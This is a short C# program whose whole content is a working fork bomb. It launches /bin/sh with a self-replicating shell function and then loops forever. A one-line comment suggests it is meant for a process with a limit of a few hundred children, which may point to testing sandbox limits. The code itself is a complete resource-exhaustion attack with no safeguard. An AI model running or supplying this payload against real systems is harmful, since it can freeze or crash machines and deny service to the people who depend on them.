// The fork bomb of the shell. Only for a process that may have no more than a few hundred others.
using System.Diagnostics;

class ForksWithoutEnd
{
    static int Main()
    {
        var bomb = new ProcessStartInfo("/bin/sh", "-c \"bomb() { bomb | bomb & }; bomb\"") { UseShellExecute = false };
        Process.Start(bomb);
        while (true)
        {
            System.Threading.Thread.Sleep(1000);
        }
    }
}
